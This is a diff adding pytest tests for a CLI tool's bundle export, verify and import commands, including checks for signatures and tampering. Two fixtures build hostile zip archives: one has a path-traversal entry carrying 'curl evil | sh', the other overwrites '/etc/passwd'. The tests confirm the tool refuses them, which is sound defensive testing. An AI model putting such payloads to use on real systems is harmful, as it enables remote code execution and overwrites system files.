@@ -1,0 +1,120 @@
+"""`export`, `verify BUNDLE.zip` and `import-bundle` as a user runs them, with their exit codes."""
+
+from __future__ import annotations
+
+import json
+import re
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from tests.cli.test_case_cli import skver
+from tests.reports.zips import flip_byte, make_zip, rewrite
+
+FINGERPRINT = re.compile(r"key fingerprint ((?:[0-9a-f]{4} ){15}[0-9a-f]{4})")
+
+
+@pytest.fixture(scope="module")
+def demo(tmp_path_factory) -> Path:
+    root = tmp_path_factory.mktemp("cli") / "demo"
+    run = skver("demo", "--out", str(root))
+    assert run.returncode == 0, run.stderr
+    return root
+
+
+@pytest.fixture
+def exported(demo, tmp_path, skver_data_dir) -> tuple[Path, str]:
+    out = tmp_path / "case.zip"
+    run = skver("export", "--case", str(demo), "--out", str(out))
+    assert run.returncode == 0, run.stderr
+    return out, run.stdout
+
+
+def test_export_prints_the_bundle_its_file_count_and_fingerprint(exported, skver_data_dir):
+    out, stdout = exported
+    assert f"Bundle written to {out}" in stdout
+    with zipfile.ZipFile(out) as zf:
+        assert f"{len(zf.namelist())} files" in stdout
+    fingerprint = FINGERPRINT.search(stdout).group(1)
+    assert (skver_data_dir / "keys" / "signing-key.pem").is_file()
+    assert json.loads(skver("verify", "--json", str(out)).stdout)["fingerprint"] == fingerprint
+
+
+def test_verify_an_intact_bundle_exits_0(exported):
+    out, _ = exported
+    run = skver("verify", str(out))
+    assert run.returncode == 0, run.stdout + run.stderr
+    assert "12 of 12 intact" in run.stdout and "signature       valid" in run.stdout
+    assert run.stdout.rstrip().endswith("Intact.")
+    report = json.loads(skver("verify", "--json", str(out)).stdout)
+    assert report["intact"] is True and report["signature"] == "valid"
+
+
+def test_verify_a_tampered_bundle_exits_3_and_names_it(exported, tmp_path):
+    out, _ = exported
+    with zipfile.ZipFile(out) as zf:
+        photo = next(n for n in zf.namelist() if n.startswith("originals/"))
+    changed = rewrite(out, tmp_path / "changed.zip", {photo: flip_byte})
+    run = skver("verify", str(changed))
+    assert run.returncode == 3
+    assert f"DISCREPANCY     {photo}" in run.stdout and "NOT INTACT: 1 discrepancies." in run.stdout
+    report = json.loads(skver("verify", "--json", str(changed)).stdout)
+    assert report["intact"] is False and photo in report["problems"][0]
+
+
+def test_verify_a_hostile_or_unreadable_file_exits_1(tmp_path):
+    hostile = make_zip(tmp_path / "hostile.zip", [("../../.bashrc", b"curl evil | sh")])
+    run = skver("verify", str(hostile))
+    assert run.returncode == 1 and "refused" in run.stderr and "'..'" in run.stderr
+    (tmp_path / "notes.zip").write_text("not a zip")
+    run = skver("verify", str(tmp_path / "notes.zip"))
+    assert run.returncode == 1 and "not a readable zip archive" in run.stderr
+
+
+def test_verify_takes_a_bundle_or_a_case_not_both(exported, demo):
+    out, _ = exported
+    assert skver("verify").returncode == 2
+    assert skver("verify", str(out), "--case", str(demo)).returncode == 2
+    run = skver("verify", "--case", str(demo))
+    assert run.returncode == 0 and "Intact." in run.stdout
+
+
+def test_export_unsigned(demo, tmp_path, skver_data_dir):
+    out = tmp_path / "unsigned.zip"
+    run = skver("export", "--case", str(demo), "--out", str(out), "--no-sign")
+    assert run.returncode == 0 and "not signed" in run.stdout
+    assert not (skver_data_dir / "keys").exists()
+    run = skver("verify", str(out))
+    assert run.returncode == 0 and "signature       unsigned" in run.stdout
+
+
+def test_export_with_a_key_dir(demo, tmp_path):
+    out = tmp_path / "k.zip"
+    run = skver("export", "--case", str(demo), "--out", str(out), "--key-dir",
+                str(tmp_path / "my-keys"))
+    assert run.returncode == 0 and (tmp_path / "my-keys" / "signing-key.pem").is_file()
+
+
+def test_import_bundle(exported, tmp_path):
+    out, _ = exported
+    case = tmp_path / "b"
+    assert skver("case", "init", str(case), "--title", "B").returncode == 0
+    run = skver("import-bundle", "--case", str(case), str(out), actor="bolat")
+    assert run.returncode == 0, run.stderr
+    assert "11 imported, 0 already in the case" in run.stdout
+    assert "4 added (0 letters)" in run.stdout
+    again = skver("import-bundle", "--case", str(case), str(out))
+    assert again.returncode == 1 and "already imported" in again.stderr
+    check = skver("verify", "--case", str(case))
+    assert check.returncode == 0 and "Intact." in check.stdout
+    log = json.loads(skver("log", "--case", str(case), "--json").stdout)
+    assert "bundle-imported" in [e["action"] for e in log]
+
+
+def test_import_bundle_refuses_a_hostile_archive(tmp_path):
+    case = tmp_path / "b"
+    assert skver("case", "init", str(case)).returncode == 0
+    hostile = make_zip(tmp_path / "h.zip", [("/etc/passwd", b"root::0:0")])
+    run = skver("import-bundle", "--case", str(case), str(hostile))
+    assert run.returncode == 1 and "is an absolute path" in run.stderr
